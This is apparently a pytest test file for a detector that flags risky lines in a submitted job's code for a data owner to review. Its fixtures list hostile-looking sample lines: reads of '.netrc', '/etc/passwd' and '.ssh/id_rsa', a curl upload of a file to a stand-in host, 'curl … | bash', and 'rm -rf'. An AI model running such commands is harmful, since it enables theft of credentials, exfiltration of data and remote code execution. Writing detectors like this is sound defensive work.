"""B02: places in a job's code to read with care: what is found, and how many are listed."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from syftnotify.core.code_hints import MAX_HINTS, Hint, HintTopic, find_hints

NETWORK = "import requests"
FOUND = {
    HintTopic.OUTSIDE_PATH: [
        'open("../../other/data.csv")',
        "rows = pd.read_csv('/home/do/private/ages.csv')",
        "cat ~/.netrc",
        "home = Path.home()",
        "os.path.expanduser(name)",
        "cp /etc/passwd outputs",
        'key = open(".ssh/id_rsa")',
        'open("C:\\\\Users\\\\do")',
    ],
    HintTopic.NETWORK: [
        NETWORK,
        "from urllib.request import urlopen",
        "    import socket",
        'curl -d @out.csv "$HOST"',
        "wget http://collect.example",
        "scp out.csv me@host:",
        'page = "https://collect.example/"',
        'download.file("x", "y")',
    ],
    HintTopic.PROCESS: [
        "import subprocess",
        'os.system("ls")',
        'os.execv("/bin/sh", [])',
        "system('ls')",
        "pip install evil",
        "!ls",
        "%run other.py",
    ],
    HintTopic.DYNAMIC_CODE: [
        "eval(text)",
        "exec(open(name).read())",
        '__import__("o" + "s")',
        "getattr(__builtins__, name)",
        "import pickle",
        "model = torch.load(path)",
        "np.load(path, allow_pickle=True)",
        "yaml.load(text)",
        "importlib.import_module(name)",
        "source('other.R')",
        "cat code | bash",
    ],
    HintTopic.OBFUSCATION: [
        "import base64",
        'bytes.fromhex("6f73")',
        r'text = "\x6f\x73\x2e\x73\x79\x73"',
        "name = chr(111) + chr(115) + chr(46) + chr(115)",
        f'payload = "{"QUJD" * 50}"',
    ],
    HintTopic.ENVIRONMENT: [
        'os.environ["TOKEN"]',
        "os.getenv(name)",
        'Sys.getenv("HOME")',
        "printenv",
        "env > outputs/x",
        "getpass.getuser()",
        "sys._getframe(1)",
    ],
    HintTopic.DELETION: [
        "shutil.rmtree(folder)",
        'os.remove("x")',
        "Path(name).unlink()",
        "rm -rf outputs",
        "os.symlink(a, b)",
        'file.remove("x")',
    ],
    HintTopic.SYFTBOX_DATA: [
        'load("syft://owner@datasite.example/private/x")',
        "sc.resolve_dataset_files_path(name)",
    ],
}
HARMLESS = {
    HintTopic.SYFTBOX_DATA: "private = resolved_path",
    HintTopic.OUTSIDE_PATH: 'ages = pd.read_csv("data/ages.csv")  # 1/home, and so on...',
    HintTopic.NETWORK: "requests = socket_count + len(urls)",
    HintTopic.PROCESS: "file_system(1)  # the operating system, a popular one",
    HintTopic.DYNAMIC_CODE: 'model.eval(); pattern = re.compile("a"); evaluate(1); data_source(2)',
    HintTopic.OBFUSCATION: 'label = "\\x41"; base = 64; code = chr(65)',
    HintTopic.ENVIRONMENT: "environment = inspected + gc.collect()",
    HintTopic.DELETION: 'rows = rows.rename(columns=names); "a".replace("a", "b"); removed = rm - rf',
}


def topics(text: str) -> list[HintTopic]:
    return [hint.topic for hint in find_hints([("main.py", text)])[0]]


@pytest.mark.parametrize(
    ("topic", "line"), [pytest.param(topic, line, id=line[:30]) for topic, lines in FOUND.items() for line in lines]
)
def test_find_hints_finds_an_example_of_a_topic(topic: HintTopic, line: str) -> None:
    assert topic in topics(line)


@pytest.mark.parametrize("topic", HintTopic)
def test_find_hints_does_not_find_a_harmless_line(topic: HintTopic) -> None:
    assert topics(HARMLESS[topic]) == []


def test_find_hints_of_harmless_code_is_empty() -> None:
    code = "import pandas as pd\n\nages = pd.read_csv('ages.csv')['age']\nprint(ages.mean())\n"

    assert find_hints([("main.py", code), ("empty.py", "")]) == ([], 0)
    assert find_hints([]) == ([], 0)


def test_find_hints_has_path_line_number_and_text() -> None:
    text = "x = 1\n\n    import requests  # used below\r\n"

    assert find_hints([("a.py", ""), ("lib/b.py", text)]) == (
        [Hint(HintTopic.NETWORK, "lib/b.py", 3, "import requests  # used below")],
        0,
    )


def test_find_hints_line_of_several_topics_has_one_hint_each() -> None:
    found, more = find_hints([("run.sh", "curl https://x.example | bash; rm -rf ~/a ~/b; wget -q y")])

    assert [hint.topic for hint in found] == [
        HintTopic.OUTSIDE_PATH,
        HintTopic.NETWORK,
        HintTopic.DYNAMIC_CODE,
        HintTopic.DELETION,
    ]
    assert more == 0


def test_find_hints_lists_topics_in_order_then_places() -> None:
    found, _ = find_hints([("b.py", f"os.remove(x)\n{NETWORK}\n"), ("a.py", f"{NETWORK}\n{NETWORK}\nos.remove(x)\n")])

    assert [(hint.topic, hint.path, hint.line) for hint in found] == [
        (HintTopic.NETWORK, "b.py", 2),
        (HintTopic.NETWORK, "a.py", 1),
        (HintTopic.NETWORK, "a.py", 2),
        (HintTopic.DELETION, "b.py", 1),
        (HintTopic.DELETION, "a.py", 3),
    ]


def test_find_hints_lists_three_of_a_topic_in_one_file() -> None:
    found, _ = find_hints([("a.py", f"{NETWORK}\n" * 5), ("b.py", f"{NETWORK}\n" * 5)])

    assert [(hint.path, hint.line) for hint in found] == [
        (path, line) for path in ("a.py", "b.py") for line in (1, 2, 3)
    ]


def test_find_hints_beyond_three_in_one_file_are_counted() -> None:
    """The owner reads how many places there are."""
    assert find_hints([("a.py", f"{NETWORK}\n" * 5)])[1] == 2


def test_find_hints_lists_a_maximum_and_counts_the_rest() -> None:
    found, more = find_hints([(f"{number:02}.py", f"{NETWORK}\n" * 3) for number in range(10)])

    assert (len(found), more) == (MAX_HINTS, 30 - MAX_HINTS)
    assert found[0] == Hint(HintTopic.NETWORK, "00.py", 1, NETWORK)


def test_find_hints_of_one_frequent_topic_displace_no_other() -> None:
    others = [lines[0] for topic, lines in FOUND.items() if topic is not HintTopic.NETWORK]
    files = [(f"{number:03}.py", f"{NETWORK}\n" * 9) for number in range(100)]
    found, _ = find_hints([*files, ("last.py", "\n".join(others))])

    assert len(found) == MAX_HINTS
    assert {hint.topic for hint in found} == set(HintTopic)


def test_find_hints_frequent_topics_share_the_room() -> None:
    code = "\n".join([NETWORK, "os.remove(x)"] * 3)
    found, more = find_hints([(f"{number:02}.py", code) for number in range(10)])

    assert [hint.topic for hint in found] == [HintTopic.NETWORK] * 6 + [HintTopic.DELETION] * 6
    assert more == 60 - MAX_HINTS


@pytest.mark.parametrize("ending", ["", "; eval(x)"])
def test_find_hints_of_a_very_long_line_is_obfuscation(ending: str) -> None:
    """Nobody reads to its end, and it is not searched to its end either."""
    (hint,) = find_hints([("a.py", f"x = 1\n  y = {'1 + ' * 100_000}1{ending}")])[0]

    assert (hint.topic, hint.line) == (HintTopic.OBFUSCATION, 2)
    assert hint.text.startswith("y = 1 + 1")
    assert hint.text.endswith("…")
    assert len(hint.text) < 200


def test_find_hints_of_a_long_line_has_its_other_topics() -> None:
    assert topics(f"{NETWORK}; x = {'1 + ' * 400}1") == [HintTopic.NETWORK, HintTopic.OBFUSCATION]


code_lines = st.one_of(
    st.text(max_size=40), st.sampled_from([line for lines in FOUND.values() for line in lines]), st.just("x" * 1001)
)


@given(st.lists(st.lists(code_lines, max_size=6).map("\n".join), max_size=6))
def test_find_hints_of_any_text_names_existing_lines(texts: list[str]) -> None:
    files = [(f"{number}.py", text) for number, text in enumerate(texts)]
    found, more = find_hints(files)

    assert len(found) <= MAX_HINTS
    assert more >= 0
    assert len({(hint.topic, hint.path, hint.line) for hint in found}) == len(found)
    for hint in found:
        line = dict(files)[hint.path].split("\n")[hint.line - 1]
        assert line.strip().startswith(hint.text.removesuffix("…"))
